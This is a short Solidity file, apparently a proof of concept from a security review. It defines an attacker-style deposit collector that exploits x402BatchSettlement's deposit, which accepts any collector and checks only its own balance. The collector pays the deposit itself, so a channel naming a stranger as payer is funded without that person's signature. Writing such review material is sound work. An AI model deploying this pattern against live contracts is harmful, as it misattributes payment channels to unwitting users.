// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

interface IERC20Transfer {
    function transfer(address to, uint256 value) external returns (bool);
}

/// @notice A deposit collector as an attacker writes one (issue 25 review): x402BatchSettlement's `deposit`
/// takes any collector and only checks that its own balance grew. This one pays the deposit out of its own
/// USDC (sent to it beforehand) whatever `payer` the channel names, so a channel whose payer is a stranger
/// and whose payerAuthorizer is the attacker is funded without the stranger signing anything.
contract SponsoringCollector {
    function collect(address, address token, uint256 amount, bytes32, bytes calldata) external {
        require(IERC20Transfer(token).transfer(msg.sender, amount), "transfer");
    }
}
